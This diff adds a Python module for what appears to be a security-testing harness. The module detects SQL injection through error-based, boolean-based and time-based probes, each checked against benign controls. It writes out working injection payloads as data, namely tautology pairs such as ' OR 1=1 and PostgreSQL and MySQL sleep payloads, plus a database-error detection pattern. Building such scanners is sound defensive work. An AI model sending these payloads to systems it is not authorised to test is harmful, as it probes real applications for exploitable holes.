@@ -1,0 +1,204 @@
+"""SQL injection: error-based, boolean-based and time-based probes, each with controls.
+
+Every signal is compared against benign inputs so an app whose output merely depends on the
+input's *length* or content is not reported (scanner-pitfalls.md):
+
+* error-based: a lone quote breaks the query (5xx or database error text) while a
+  length-matched benign value and the *balanced* quote (``''``, which SQL reads as an escaped
+  quote) do not;
+* boolean-based: a true/false pair of *equal length* gives different answers while two benign
+  values of that same length give the same answer, confirmed by a second independent pair;
+* time-based: a sleep payload is slower than the baseline by most of the sleep, twice.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import re
+import string
+from collections.abc import Callable
+from typing import Any
+
+from pydantic import BaseModel, Field
+
+from harness.findings import Confidence, Finding, Severity
+from harness.probes.apiops import Point, build_request
+from harness.probes.bounded import Fetched
+
+Send = Callable[..., Fetched]
+
+DB_ERRORS = re.compile(
+    r"syntax error at or near|unterminated quoted string|pg_query|psycopg|PG::|"
+    r"SQLSTATE|sqlalchemy\.exc|ProgrammingError|OperationalError|"
+    r"you have an error in your sql syntax|mysql_fetch|ORA-\d{5}|SQLite3?::|sqlite3\.|"
+    r"unrecognized token|near \".*\": syntax error|quoted string not properly terminated",
+    re.IGNORECASE,
+)
+# Quote-context-robust pairs: the true and false halves have the same length, and both keep
+# the query valid whether the value sits in '...' or in LIKE '%...%' (trailing text absorbed).
+STRING_PAIRS = [("' OR 'a' LIKE 'a", "' OR 'b' LIKE 'a"), ("' OR 'b'>'a", "' OR 'a'>'b")]
+NUMBER_PAIRS = [(" OR 1=1", " OR 1=2"), (" OR 2>1", " OR 1>2")]
+SLEEPS = [
+    ("postgresql", "'||(SELECT '' FROM pg_sleep({s}))||'"),
+    ("mysql", "'||SLEEP({s})||'"),
+    ("postgresql-numeric", " AND 1=(SELECT 1 FROM pg_sleep({s}))"),
+]
+_VOLATILE = re.compile(
+    r"\"(correlation_id|request_id|time|timestamp|created_at|updated_at|issued_at)\"\s*:\s*"
+    r"\"[^\"]*\"|[0-9a-f]{32}|\d{4}-\d{2}-\d{2}T[\d:.+Z-]+"
+)
+
+
+class Attempt(BaseModel):
+    label: str
+    value: str
+    status: int
+    length: int
+    elapsed_s: float
+    excerpt: str = ""
+
+
+class PointResult(BaseModel):
+    point: str
+    technique: str | None = None
+    attempts: list[Attempt] = Field(default_factory=list)
+    finding: Finding | None = None
+
+
+def _rand(n: int) -> str:
+    # Letters only: benign controls must not contain SQL metacharacters.
+    return "".join(random.choice(string.ascii_lowercase) for _ in range(max(n, 1)))
+
+
+def normalise(body: str) -> str:
+    """Response text with per-request noise (ids, times) removed, for equality tests."""
+    return _VOLATILE.sub("", body)
+
+
+def _is_numeric(point: Point) -> bool:
+    return point.schema_.get("type") in ("integer", "number")
+
+
+class SqliProbe:
+    def __init__(self, send: Send, ids: dict[str, Any], *, sleep_s: float = 2.0,
+                 request_s: float = 8.0) -> None:
+        self.send = send
+        self.ids = ids
+        self.sleep_s = sleep_s
+        self.request_s = request_s
+
+    def _try(self, point: Point, value: Any, label: str, result: PointResult) -> Fetched:
+        method, path, kwargs = build_request(point.op, self.ids, (point.location, point.name,
+                                                                  value))
+        response = self.send(method, path, total_s=self.request_s, **kwargs)
+        result.attempts.append(Attempt(label=label, value=str(value), status=response.status,
+                                       length=len(response.body),
+                                       elapsed_s=round(response.elapsed_s, 3),
+                                       excerpt=response.body[:300]))
+        return response
+
+    def run(self, point: Point) -> PointResult:
+        result = PointResult(point=point.label)
+        base = _rand(6)
+        baseline = self._try(point, base, "baseline", result)
+        if baseline.status == 0 or baseline.status == 429:
+            return result  # unreachable or throttled: nothing to compare against
+        for technique in (self._error_based, self._boolean_based, self._time_based):
+            finding = technique(point, base, baseline, result)
+            if finding is not None:
+                result.technique = finding.rule
+                result.finding = finding
+                break
+        return result
+
+    # -- techniques ------------------------------------------------------------------------
+    def _finding(self, point: Point, rule: str, title: str, evidence: str,
+                 confidence: Confidence) -> Finding:
+        method, path, _ = build_request(point.op, self.ids)
+        return Finding(rule=f"probe:{rule}", title=title, severity=Severity.HIGH,
+                       confidence=confidence, control="SEC-05", cwe=89, owasp="A03",
+                       url=path, method=method, parameter=f"{point.location}:{point.name}",
+                       evidence=evidence[:2000])
+
+    def _error_based(self, point: Point, base: str, baseline: Fetched,
+                     result: PointResult) -> Finding | None:
+        if baseline.status >= 500:
+            return None  # the operation fails anyway: a quote cannot be told apart
+        broken = self._try(point, base + "'", "single quote", result)
+        text_hit = DB_ERRORS.search(broken.body or "") and not DB_ERRORS.search(baseline.body)
+        if broken.status < 500 and not text_hit:
+            return None
+        control = self._try(point, base + "x", "length-matched benign", result)
+        balanced = self._try(point, base + "''", "balanced quotes", result)
+        if control.status >= 500 or DB_ERRORS.search(control.body):
+            return None  # the app fails on any change of this input: not a quote effect
+        if balanced.status >= 500 and not text_hit:
+            return None  # '' fails too: more likely a length/charset effect than SQL
+        return self._finding(
+            point, "sqli-error", "SQL injection (error-based)",
+            f"{point.label}: {base + chr(39)!r} -> HTTP {broken.status} "
+            f"{'with database error text ' if text_hit else ''}({broken.body[:200]!r}); "
+            f"benign {base + 'x'!r} -> HTTP {control.status}; balanced {base + chr(39) * 2!r} "
+            f"-> HTTP {balanced.status}",
+            Confidence.HIGH if text_hit or balanced.status < 500 else Confidence.MEDIUM)
+
+    def _boolean_based(self, point: Point, base: str, baseline: Fetched,
+                       result: PointResult) -> Finding | None:
+        pairs = NUMBER_PAIRS if _is_numeric(point) else STRING_PAIRS
+        prefix = "1" if _is_numeric(point) else base
+        confirmed: list[str] = []
+        for true_tail, false_tail in pairs:
+            length = len(true_tail)
+            a = self._try(point, prefix + _rand(length), "benign control A", result)
+            b = self._try(point, prefix + _rand(length), "benign control B", result)
+            if (a.status, normalise(a.body)) != (b.status, normalise(b.body)):
+                return None  # the answer depends on the value itself: no stable baseline
+            true = self._try(point, prefix + true_tail, "true condition", result)
+            false = self._try(point, prefix + false_tail, "false condition", result)
+            if true.status >= 500 or false.status >= 500:
+                return None
+            same_false = (false.status, normalise(false.body)) == (a.status, normalise(a.body))
+            differs = (true.status, normalise(true.body)) != (false.status,
+                                                              normalise(false.body))
+            if not (same_false and differs):
+                return None
+            confirmed.append(f"{prefix + true_tail!r} -> HTTP {true.status}, "
+                             f"{len(true.body)} bytes; {prefix + false_tail!r} -> HTTP "
+                             f"{false.status}, {len(false.body)} bytes (= benign controls)")
+        return self._finding(point, "sqli-boolean", "SQL injection (boolean-based)",
+                             f"{point.label}: " + " | ".join(confirmed), Confidence.HIGH)
+
+    def _time_based(self, point: Point, base: str, baseline: Fetched,
+                    result: PointResult) -> Finding | None:
+        threshold = baseline.elapsed_s + self.sleep_s * 0.8
+        for dialect, template in SLEEPS:
+            if dialect.endswith("numeric") != _is_numeric(point):
+                continue
+            prefix = "1" if _is_numeric(point) else base
+            first = self._try(point, prefix + template.format(s=self.sleep_s),
+                              f"sleep {dialect}", result)
+            if first.elapsed_s < threshold:
+                continue
+            # Confirm: a benign value of the same length is fast, and the sleep repeats.
+            control = self._try(point, prefix + _rand(len(template.format(s=self.sleep_s))),
+                                "length-matched benign", result)
+            second = self._try(point, prefix + template.format(s=self.sleep_s),
+                               f"sleep {dialect} again", result)
+            if control.elapsed_s < threshold and second.elapsed_s >= threshold:
+                return self._finding(
+                    point, "sqli-time", "SQL injection (time-based)",
+                    f"{point.label}: {dialect} sleep {self.sleep_s}s -> {first.elapsed_s:.2f}s "
+                    f"and {second.elapsed_s:.2f}s; baseline {baseline.elapsed_s:.2f}s, benign "
+                    f"control {control.elapsed_s:.2f}s", Confidence.HIGH)
+        return None
+
+
+def summarise(results: list[PointResult]) -> dict[str, Any]:
+    return {"points": len(results),
+            "requests": sum(len(r.attempts) for r in results),
+            "findings": [r.finding.model_dump(mode="json") for r in results if r.finding]}
+
+
+def dumps(results: list[PointResult]) -> str:
+    return json.dumps([r.model_dump(mode="json") for r in results], indent=1)[:200_000]
